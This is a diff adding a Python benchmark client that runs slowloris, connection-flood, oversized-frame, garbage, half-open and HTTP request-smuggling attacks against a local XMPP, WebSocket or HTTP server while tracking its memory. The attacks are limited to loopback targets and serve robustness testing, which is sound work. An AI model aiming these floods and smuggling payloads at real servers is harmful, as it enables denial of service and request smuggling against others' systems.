@@ -1,0 +1,753 @@
+#!/usr/bin/env python3
+"""Hostile clients for bench/hostile.sh: one attack against one server, with the server's
+memory measured around it.
+
+    hostile.py ATTACK --target IP:PORT --pids PID[,PID] --proto xmpp|ws|http
+               [--conns N] [--secs S] [--procs K] [--ready FILE] [--domain D]
+
+ATTACK is one of idle, slowloris, oversized, garbage, halfopen, flood, smuggle. The
+attack runs in K worker processes (each holds at most N/K sockets, far below the
+20,000 open files a process may have), bounded by S seconds, against 127.0.0.1 only;
+the attackers' sockets come from 127.0.0.2..127.0.0.9 so that they do not use up the
+source ports other programs on 127.0.0.1 need. When the attack is in its steady state
+the FILE given by --ready is created (the caller then measures a well-behaved client).
+Prints one JSON object: the server's resident memory (VmRSS of PID and its descendants,
+KiB) before, at its peak during and after the attack, and what the attack saw.
+
+Standard library only: socket, selectors, multiprocessing.
+"""
+
+import argparse
+import base64
+import errno
+import json
+import multiprocessing as mp
+import os
+import re
+import selectors
+import socket
+import struct
+import sys
+import time
+
+IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h: the port is chosen at connect, not bind
+
+XMPP_OPEN = (
+    "<?xml version='1.0'?><stream:stream to='{d}' xmlns='jabber:client' "
+    "xmlns:stream='http://etherx.jabber.org/streams' version='1.0'>"
+)
+
+
+def opening(proto, domain, host):
+    """What a client sends first: the bytes a slowloris trickles."""
+    if proto == "xmpp":
+        return XMPP_OPEN.format(d=domain).encode()
+    if proto == "ws":
+        return (
+            "GET /xmpp-websocket HTTP/1.1\r\nHost: {h}\r\nUpgrade: websocket\r\n"
+            "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+            "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: xmpp\r\n\r\n"
+        ).format(h=host).encode()
+    return "GET / HTTP/1.1\r\nHost: {h}\r\nUser-Agent: hostile\r\n\r\n".format(h=host).encode()
+
+
+# ---------------------------------------------------------------- server memory
+
+
+def tree(pid):
+    """PID and its descendants (through /proc/PID/task/*/children)."""
+    out, todo = [], [pid]
+    while todo:
+        p = todo.pop()
+        out.append(p)
+        try:
+            for t in os.listdir("/proc/%d/task" % p):
+                with open("/proc/%d/task/%s/children" % (p, t)) as f:
+                    todo.extend(int(c) for c in f.read().split())
+        except OSError:
+            pass
+    return out
+
+
+def rss_kib(pids):
+    total = 0
+    for root in pids:
+        for p in tree(root):
+            try:
+                with open("/proc/%d/status" % p) as f:
+                    for line in f:
+                        if line.startswith("VmRSS:"):
+                            total += int(line.split()[1])
+            except OSError:
+                pass
+    return total
+
+
+def alive(pids):
+    return all(os.path.exists("/proc/%d" % p) for p in pids)
+
+
+# ---------------------------------------------------------------- sockets
+
+
+def sock(worker, blocking=True):
+    """A TCP socket from 127.0.0.(2 + worker % 8), so attacks do not use up 127.0.0.1's ports."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
+    s.bind(("127.0.0.%d" % (2 + worker % 8), 0))
+    s.setblocking(blocking)
+    return s
+
+
+def rst_close(s):
+    """Close with a reset: no TIME_WAIT left behind on either side."""
+    try:
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    except OSError:
+        pass
+    s.close()
+
+
+def open_many(worker, target, n, deadline):
+    """n connections, opened without blocking; returns the connected ones and errors."""
+    sel = selectors.DefaultSelector()
+    pending, ok, errs = 0, [], {}
+    for _ in range(n):
+        s = sock(worker, blocking=False)
+        e = s.connect_ex(target)
+        if e in (0, errno.EINPROGRESS):
+            sel.register(s, selectors.EVENT_WRITE)
+            pending += 1
+        else:
+            errs[errno.errorcode.get(e, str(e))] = errs.get(errno.errorcode.get(e, str(e)), 0) + 1
+            s.close()
+        # Keep the listen backlog from overflowing: let some complete first.
+        while pending > 512 and time.time() < deadline:
+            for k, _ in sel.select(1.0):
+                sel.unregister(k.fileobj)
+                pending -= 1
+                e = k.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+                if e:
+                    name = errno.errorcode.get(e, str(e))
+                    errs[name] = errs.get(name, 0) + 1
+                    k.fileobj.close()
+                else:
+                    ok.append(k.fileobj)
+    while pending and time.time() < deadline:
+        for k, _ in sel.select(1.0):
+            sel.unregister(k.fileobj)
+            pending -= 1
+            e = k.fileobj.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+            if e:
+                name = errno.errorcode.get(e, str(e))
+                errs[name] = errs.get(name, 0) + 1
+                k.fileobj.close()
+            else:
+                ok.append(k.fileobj)
+    for k in list(sel.get_map().values()):
+        k.fileobj.close()
+    sel.close()
+    return ok, errs
+
+
+def hold_watch(conns, until, trickle=None, ready=None):
+    """Holds conns until `until`, reading whatever the server sends; with trickle, sends
+    its next byte on every connection once a second. Returns (closed by the server, seconds
+    after the start at which the last of them closed, first bytes the server sent)."""
+    sel = selectors.DefaultSelector()
+    for s in conns:
+        sel.register(s, selectors.EVENT_READ)
+    start = time.time()
+    closed, last_close, said = 0, None, b""
+    pos = 0
+    next_byte = start
+    if ready:
+        ready.set()
+    while time.time() < until and sel.get_map():
+        now = time.time()
+        if trickle is not None and now >= next_byte:
+            if pos < len(trickle):
+                b = trickle[pos : pos + 1]
+                pos += 1
+            else:
+                b = b" "  # whitespace keeps an XMPP stream or an HTTP head open
+            for k in list(sel.get_map().values()):
+                try:
+                    k.fileobj.send(b)
+                except OSError:
+                    pass
+            next_byte += 1.0
+        for k, _ in sel.select(min(0.5, max(0.01, until - time.time()))):
+            try:
+                d = k.fileobj.recv(65536)
+            except OSError:
+                d = b""
+            if d:
+                if len(said) < 300:
+                    said += d[: 300 - len(said)]
+                continue
+            sel.unregister(k.fileobj)
+            k.fileobj.close()
+            closed += 1
+            last_close = time.time() - start
+    for k in list(sel.get_map().values()):
+        rst_close(k.fileobj)
+    sel.close()
+    return closed, last_close, said
+
+
+def read_until(s, marks, limit=5.0):
+    """Reads until one of marks appears, the peer closes or `limit` seconds pass."""
+    buf = b""
+    s.settimeout(limit)
+    end = time.time() + limit
+    while time.time() < end:
+        try:
+            d = s.recv(65536)
+        except OSError:
+            return buf, True
+        if not d:
+            return buf, True
+        buf += d
+        if any(m in buf for m in marks):
+            return buf, False
+    return buf, False
+
+
+def drain(s, limit):
+    """Everything the peer sends until it closes (True) or `limit` seconds pass (False)."""
+    buf = b""
+    s.settimeout(0.5)
+    end = time.time() + limit
+    while time.time() < end:
+        try:
+            d = s.recv(65536)
+        except socket.timeout:
+            continue
+        except OSError:
+            return buf, True
+        if not d:
+            return buf, True
+        buf += d[: max(0, 4096 - len(buf))]
+    return buf, False
+
+
+def ws_frame(payload, opcode=1, length=None):
+    """A masked client frame (RFC 6455 5.2); `length` may lie about the payload's size."""
+    n = len(payload) if length is None else length
+    head = bytes([0x80 | opcode])
+    if n < 126:
+        head += bytes([0x80 | n])
+    elif n < 65536:
+        head += bytes([0x80 | 126]) + struct.pack(">H", n)
+    else:
+        head += bytes([0x80 | 127]) + struct.pack(">Q", n)
+    mask = b"\x01\x02\x03\x04"
+    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
+
+
+def ws_open(s, a):
+    s.sendall(opening("ws", a.domain, a.host))
+    head, closed = read_until(s, [b"\r\n\r\n"])
+    return head.startswith(b"HTTP/1.1 101") and not closed
+
+
+# ---------------------------------------------------------------- attacks (per worker)
+
+
+def w_idle(w, a, n, ready, q):
+    until = time.time() + a.secs
+    conns, errs = open_many(w, a.target, n, until)
+    closed, last, said = hold_watch(conns, until, ready=ready)
+    q.put({"opened": len(conns), "connect_errors": errs, "closed_by_server": closed, "last_close_s": last, "said": said[:120].decode("latin-1")})
+
+
+def w_slowloris(w, a, n, ready, q):
+    until = time.time() + a.secs
+    conns, errs = open_many(w, a.target, n, until)
+    closed, last, said = hold_watch(conns, until, trickle=opening(a.proto, a.domain, a.host), ready=ready)
+    q.put({"opened": len(conns), "connect_errors": errs, "closed_by_server": closed, "last_close_s": last, "said": said[:120].decode("latin-1")})
+
+
+def oversized_once(w, a, big_head):
+    """One connection sending something too large; returns (bytes sent, closed, reply)."""
+    s = sock(w)
+    s.settimeout(5)
+    s.connect(a.target)
+    sent = 0
+    chunk = b"A" * 16384
+    try:
+        if a.proto == "xmpp":
+            if big_head:
+                s.sendall(b"<?xml version='1.0'?><stream:stream to='" + a.domain.encode() + b"' x='")
+            else:
+                s.sendall(opening("xmpp", a.domain, a.host))
+                read_until(s, [b"</stream:features>"])
+                s.sendall(b"<message to='user2@" + a.domain.encode() + b"'><body>")
+        elif a.proto == "ws":
+            if big_head:
+                s.sendall(b"GET /xmpp-websocket HTTP/1.1\r\nHost: x\r\nX-Big: ")
+            else:
+                if not ws_open(s, a):
+                    return 0, True, b"no upgrade"
+                s.sendall(ws_frame(b"", length=1 << 30)[:14])  # a 1 GiB text frame announced
+        else:
+            if big_head:
+                s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: ")
+            else:
+                s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1073741824\r\n\r\n")
+        s.settimeout(2)
+        while sent < a.max_bytes:
+            s.sendall(chunk)
+            sent += len(chunk)
+    except OSError:
+        pass
+    reply, closed = drain(s, 3)
+    rst_close(s)
+    return sent, closed, reply
+
+
+def summary(reply):
+    """A reply in a few words: an XMPP stream error's condition, an HTTP status line, a
+    WebSocket close code, or its first bytes."""
+    m = re.search(rb"<([a-z-]+) xmlns=['\"]urn:ietf:params:xml:ns:xmpp-streams", reply)
+    if m:
+        return "stream error <%s/>" % m.group(1).decode()
+    if reply.startswith(b"HTTP/"):
+        line = reply.split(b"\r\n")[0].decode("latin-1")
+        rest = reply.split(b"\r\n\r\n", 1)[1:] or [b""]
+        if line.startswith("HTTP/1.1 101") and len(rest[0]) >= 4 and rest[0][0] & 0x0F == 8:
+            return line + ", then WebSocket close %d" % struct.unpack(">H", rest[0][2:4])[0]
+        return line
+    if len(reply) >= 4 and reply[0] == 0x88:
+        return "WebSocket close %d" % struct.unpack(">H", reply[2:4])[0]
+    return repr(reply[:40]) if reply else "nothing"
+
+
+def w_oversized(w, a, n, ready, q):
+    until = time.time() + a.secs
+    ready.set()
+    tries = closed = 0
+    sent_max = 0
+    replies = {}
+    while time.time() < until:
+        sent, c, reply = oversized_once(w, a, big_head=tries % 2 == 1)
+        tries += 1
+        closed += c
+        sent_max = max(sent_max, sent)
+        key = summary(reply)
+        replies[key] = replies.get(key, 0) + 1
+    q.put({"tries": tries, "closed_by_server": closed, "most_sent_before_close": sent_max, "replies": replies})
+
+
+def w_garbage(w, a, n, ready, q):
+    until = time.time() + a.secs
+    ready.set()
+    tries = closed = 0
+    replies = {}
+    while time.time() < until:
+        s = sock(w)
+        s.settimeout(3)
+        try:
+            s.connect(a.target)
+            if tries % 2 == 1:  # garbage after a valid opening
+                s.sendall(opening(a.proto, a.domain, a.host))
+                if a.proto == "ws":
+                    read_until(s, [b"\r\n\r\n"])
+            s.sendall(os.urandom(4096))
+        except OSError:
+            pass
+        reply, c = drain(s, 3)
+        rst_close(s)
+        tries += 1
+        closed += c
+        key = summary(reply)
+        replies[key] = replies.get(key, 0) + 1
+    q.put({"tries": tries, "closed_by_server": closed, "replies": replies})
+
+
+def xmpp_login(s, a, user):
+    d = a.domain.encode()
+    s.sendall(opening("xmpp", a.domain, a.host))
+    read_until(s, [b"</stream:features>"])
+    cred = base64.b64encode(b"\0user%d\0pass%d" % (user, user))
+    s.sendall(b"<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>" + cred + b"</auth>")
+    r, _ = read_until(s, [b"<success", b"<failure"])
+    if b"<success" not in r:
+        return None
+    s.sendall(opening("xmpp", a.domain, a.host))
+    read_until(s, [b"</stream:features>"])
+    s.sendall(b"<iq type='set' id='b1'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><resource>h</resource></bind></iq>")
+    r, _ = read_until(s, [b"</iq>"])
+    if b"result" not in r:
+        return None
+    return b"user%d@%s/h" % (user, d)
+
+
+TCP_CLOSE, TCP_CLOSE_WAIT = 7, 8  # include/net/tcp_states.h
+
+
+def cut_by_server(s):
+    """Whether the server closed this connection (its FIN or RST arrived), unread data or not."""
+    try:
+        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+            return True
+        return s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0] in (TCP_CLOSE, TCP_CLOSE_WAIT)
+    except OSError:
+        return True
+
+
+def w_halfopen(w, a, n, ready, q):
+    """Half the connections stop reading while the server writes to them: XMPP sessions
+    logged in that one more session of this worker (which reads) floods with 1 KB
+    messages; WebSocket and HTTP connections that keep sending requests whose replies
+    they never read. The other half send half an opening, shut their write side and
+    linger, never reading."""
+    until = time.time() + a.secs
+    readers, shut, errs = [], [], 0
+    body = b"x" * 1000
+    sender = None
+    if a.proto == "xmpp":
+        sender = sock(w)
+        sender.settimeout(5)
+        sender.connect(a.target)
+        if xmpp_login(sender, a, a.first_user + 5000 + w) is None:
+            sys.exit("hostile.py: the sending session could not log in")
+    for i in range(n):
+        try:
+            s = sock(w)
+            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            s.settimeout(5)
+            s.connect(a.target)
+        except OSError:
+            errs += 1
+            continue
+        if i % 2 == 0:
+            msg = b""
+            if a.proto == "xmpp":
+                jid = xmpp_login(s, a, a.first_user + w * n + i)
+                if jid is None:
+                    errs += 1
+                    s.close()
+                    continue
+                msg = b"<message type='chat' to='" + jid + b"'><body>" + body + b"</body></message>"
+            elif a.proto == "ws":
+                if not ws_open(s, a):
+                    errs += 1
+                    s.close()
+                    continue
+                msg = ws_frame(b"<open xmlns='urn:ietf:params:xml:ns:xmpp-framing' to='" + a.domain.encode() + b"' version='1.0'/>")
+            else:
+                msg = b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n" + body
+            s.setblocking(False)
+            readers.append((s, msg))
+        else:
+            o = opening(a.proto, a.domain, a.host)
+            s.sendall(o[: len(o) // 2])
+            s.shutdown(socket.SHUT_WR)
+            s.setblocking(False)
+            shut.append(s)
+    ready.set()
+    written = 0
+    if sender is not None:
+        # One session writes to all the non-readers, reading (and dropping) its own input.
+        sender.setblocking(False)
+        pending = b""
+        k = 0
+        while time.time() < until:
+            try:
+                while sender.recv(65536):
+                    pass
+            except BlockingIOError:
+                pass
+            except OSError:
+                break
+            if not pending:
+                pending = b"".join(readers[(k + j) % len(readers)][1] for j in range(64))
+                k += 64
+            try:
+                m = sender.send(pending)
+                written += m
+                pending = pending[m:]
+            except BlockingIOError:
+                time.sleep(0.002)
+            except OSError:
+                break
+        sender.close()
+    else:
+        # Each non-reader writes requests as long as the server reads them.
+        live = list(readers)
+        while time.time() < until and live:
+            for s, msg in live:
+                try:
+                    written += s.send(msg)
+                except (BlockingIOError, OSError):
+                    pass
+            time.sleep(0.005)
+    # The server may still be working through what it read: give it a few seconds to
+    # reach its cap on the non-readers.
+    end = time.time() + 5
+    while time.time() < end and not all(cut_by_server(s) for s, _ in readers):
+        time.sleep(0.25)
+    cut = sum(cut_by_server(s) for s, _ in readers)
+    shut_closed = sum(cut_by_server(s) for s in shut)
+    for s, _ in readers:
+        rst_close(s)
+    for s in shut:
+        rst_close(s)
+    q.put({"readers": len(readers), "readers_cut_by_server": cut, "bytes_written": written, "shut": len(shut), "shut_closed_by_server": shut_closed, "setup_errors": errs})
+
+
+def w_flood(w, a, n, ready, q):
+    until = time.time() + a.secs
+    ready.set()
+    ok, errs = 0, {}
+    while time.time() < until:
+        s = sock(w)
+        s.settimeout(1)
+        try:
+            s.connect(a.target)
+            ok += 1
+        except OSError as e:
+            name = errno.errorcode.get(e.errno, str(e)) if e.errno else "timeout"
+            errs[name] = errs.get(name, 0) + 1
+        rst_close(s)
+    q.put({"connects": ok, "per_s": round(ok / a.secs), "connect_errors": errs})
+
+
+SMUGGLE = {
+    "CL,CL": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 40\r\n\r\n"
+    b"hello GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
+    "CL+TE": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
+    b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
+    "TE+CL": b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 44\r\n\r\n"
+    b"5\r\nhello\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
+    "TE obfuscated": b"POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\nContent-Length: 4\r\n\r\n"
+    b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
+}
+
+
+def w_smuggle(w, a, n, ready, q):
+    ready.set()
+    out = {}
+    for name, req in SMUGGLE.items():
+        s = sock(w)
+        s.settimeout(3)
+        try:
+            s.connect(a.target)
+            s.sendall(req)
+        except OSError:
+            pass
+        reply, closed = drain(s, 3)
+        rst_close(s)
+        statuses = [l.decode("latin-1") for l in reply.split(b"\r\n") if l.startswith(b"HTTP/1.")]
+        out[name] = {"responses": statuses, "closed": closed}
+    q.put({"shapes": out})
+
+
+ATTACKS = {
+    "idle": w_idle,
+    "slowloris": w_slowloris,
+    "oversized": w_oversized,
+    "garbage": w_garbage,
+    "halfopen": w_halfopen,
+    "flood": w_flood,
+    "smuggle": w_smuggle,
+}
+
+
+def merge(parts):
+    """Sums the workers' numbers and dicts; keeps the first of anything else."""
+    out = {}
+    for p in parts:
+        for k, v in p.items():
+            if k not in out:
+                out[k] = v
+            elif k in ("last_close_s", "most_sent_before_close"):
+                if v is not None:
+                    out[k] = max(out[k] or 0, v)
+            elif isinstance(v, (int, float)) and not isinstance(v, bool):
+                out[k] += v
+            elif isinstance(v, dict) and k != "shapes":
+                for kk, vv in v.items():
+                    out[k][kk] = out[k].get(kk, 0) + vv
+    return out
+
+
+def http_client(target, seconds):
+    """The well-behaved HTTP client: keep-alive GETs, one after another, for `seconds`;
+    prints the round trips' p50/p99 like hold_sessions does."""
+    ip, port = target.rsplit(":", 1)
+    s = socket.create_connection((ip, int(port)), timeout=5)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    req = b"POST /echo HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\nhi"
+    rtt, buf, fails = [], b"", 0
+    end = time.time() + seconds
+    while time.time() < end:
+        t = time.perf_counter()
+        try:
+            s.sendall(req)
+            while True:
+                i = buf.find(b"\r\n\r\n")
+                if i >= 0:
+                    head = buf[:i].lower()
+                    n = 0
+                    for line in head.split(b"\r\n"):
+                        if line.startswith(b"content-length:"):
+                            n = int(line.split(b":")[1])
+                    if len(buf) >= i + 4 + n:
+                        buf = buf[i + 4 + n :]
+                        break
+                d = s.recv(65536)
+                if not d:
+                    raise OSError("closed")
+                buf += d
+        except OSError:
+            fails += 1
+            s.close()
+            s = socket.create_connection((ip, int(port)), timeout=5)
+            buf = b""
+            continue
+        rtt.append(time.perf_counter() - t)
+    rtt.sort()
+    if not rtt:
+        print("pingpong: 0 round trips (%d failed)" % fails)
+        return
+    q = lambda f: rtt[round((len(rtt) - 1) * f)] * 1e6
+    print("pingpong: %d round trips, p50 %.1f us, p90 %.1f us, p99 %.1f us (%d failed)" % (len(rtt), q(0.5), q(0.9), q(0.99), fails))
+
+
+def describe(r):
+    """What the attack saw, in a few words for the table."""
+    x = r["result"]
+    a = r["attack"]
+    if a in ("idle", "slowloris"):
+        s = "%d open" % x.get("opened", 0)
+        if x.get("connect_errors"):
+            s += ", connect errors %s" % x["connect_errors"]
+        s += "; %d closed by the server" % x.get("closed_by_server", 0)
+        if x.get("last_close_s") is not None:
+            s += " (last at %.1f s)" % x["last_close_s"]
+        return s
+    if a in ("oversized", "garbage"):
+        top = sorted(x.get("replies", {}).items(), key=lambda kv: -kv[1])[:2]
+        said = ", ".join("%s (%d)" % kv for kv in top) or "nothing"
+        s = "%d tries, %d closed by the server; replies: %s" % (x.get("tries", 0), x.get("closed_by_server", 0), said)
+        if a == "oversized":
+            s += "; at most %d KiB sent before the close" % (x.get("most_sent_before_close", 0) // 1024)
+        return s
+    if a == "halfopen":
+        # A server's FIN queued behind data the non-reader never reads does not arrive:
+        # the server's own count of slow readers (its log line) is the authority there.
+        return "%d non-readers: %d seen closed (%.1f MiB written to them); %d SHUT_WR: %d closed by the server" % (
+            x.get("readers", 0), x.get("readers_cut_by_server", 0), x.get("bytes_written", 0) / 1048576,
+            x.get("shut", 0), x.get("shut_closed_by_server", 0))
+    if a == "flood":
+        return "%d connects (%d/s); errors %s" % (x.get("connects", 0), x.get("per_s", 0), x.get("connect_errors") or "none")
+    if a == "smuggle":
+        parts = []
+        for k, v in x.get("shapes", {}).items():
+            resp = ",".join(l.split(" ", 2)[1] for l in v["responses"]) or "none"
+            parts.append("%s: %s%s" % (k, resp, ", closed" if v["closed"] else ""))
+        return "; ".join(parts)
+    return json.dumps(x)
+
+
+def row(server, path, base, during, logline):
+    """One markdown table row from an attack's JSON and the client's p99s."""
+    with open(path) as f:
+        r = json.loads(f.read().strip().splitlines()[-1])
+    mib = lambda k: "%.1f" % (k / 1024)
+    try:
+        ratio = "%.2f" % (float(during) / float(base))
+    except (ValueError, ZeroDivisionError):
+        ratio = "-"
+    pc = r["per_conn_kib"]
+    print("| %s | %s | %s / %s / %s | %s | %s / %s (%s) | %s | %s | %s |" % (
+        server, r["attack"], mib(r["rss_before_kib"]), mib(r["rss_peak_kib"]), mib(r["rss_after_kib"]),
+        "-" if pc is None else "%.1f" % pc, base, during, ratio,
+        "yes" if r["server_alive"] else "**no**", describe(r).replace("|", "/"), logline.replace("|", "/")))
+
+
+def main():
+    if len(sys.argv) > 1 and sys.argv[1] == "row":
+        return row(*sys.argv[2:7])
+    if len(sys.argv) > 1 and sys.argv[1] == "http-client":
+        return http_client(sys.argv[2], float(sys.argv[3]))
+    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    p.add_argument("attack", choices=sorted(ATTACKS))
+    p.add_argument("--target", required=True)
+    p.add_argument("--pids", required=True)
+    p.add_argument("--proto", choices=["xmpp", "ws", "http"], default="xmpp")
+    p.add_argument("--conns", type=int, default=1000)
+    p.add_argument("--secs", type=float, default=10)
+    p.add_argument("--procs", type=int, default=2)
+    p.add_argument("--ready")
+    p.add_argument("--domain", default="wirebench.test")
+    p.add_argument("--first-user", type=int, default=90001)
+    p.add_argument("--max-bytes", type=int, default=8 << 20)
+    p.add_argument("--settle", type=float, default=5, help="seconds to wait for memory to come back")
+    a = p.parse_args()
+    ip, port = a.target.rsplit(":", 1)
+    if not ip.startswith("127."):
+        sys.exit("hostile.py: 127.0.0.0/8 targets only")
+    a.target = (ip, int(port))
+    a.host = "%s:%s" % (ip, port)
+    pids = [int(x) for x in a.pids.split(",")]
+    per = max(1, a.conns // a.procs)
+    if per > 15000:
+        sys.exit("hostile.py: at most 15,000 sockets a process: raise --procs")
+
+    time.sleep(0.5)
+    before = rss_kib(pids)
+    q = mp.Queue()
+    events = [mp.Event() for _ in range(a.procs)]
+    procs = [mp.Process(target=ATTACKS[a.attack], args=(w, a, per, events[w], q), daemon=True) for w in range(a.procs)]
+    t0 = time.time()
+    for pr in procs:
+        pr.start()
+    peak, signalled, parts = before, False, []
+    hard_end = t0 + a.secs + 60
+    while any(pr.is_alive() for pr in procs) and time.time() < hard_end:
+        peak = max(peak, rss_kib(pids))
+        if not signalled and all(e.is_set() for e in events):
+            signalled = True
+            if a.ready:
+                open(a.ready, "w").close()
+        while not q.empty():
+            parts.append(q.get())
+        time.sleep(0.1)
+    while len(parts) < len(procs):
+        try:
+            parts.append(q.get(timeout=2))
+        except Exception:
+            break
+    for pr in procs:
+        if pr.is_alive():
+            pr.kill()
+        pr.join(1)
+    if a.ready and not signalled:
+        open(a.ready, "w").close()
+    # Memory after: wait up to --settle seconds for it to come back near the baseline.
+    end = time.time() + a.settle
+    after = rss_kib(pids)
+    while time.time() < end and after > before * 1.1 + 2048:
+        time.sleep(0.25)
+        after = rss_kib(pids)
+    r = merge(parts)
+    n = r.get("opened") or (r.get("readers", 0) + r.get("shut", 0)) or None
+    print(json.dumps({
+        "attack": a.attack,
+        "proto": a.proto,
+        "secs": round(time.time() - t0, 1),
+        "rss_before_kib": before,
+        "rss_peak_kib": peak,
+        "rss_after_kib": after,
+        "per_conn_kib": round((peak - before) / n, 2) if n else None,
+        "server_alive": alive(pids),
+        "result": r,
+    }))
+
+
+if __name__ == "__main__":
+    main()
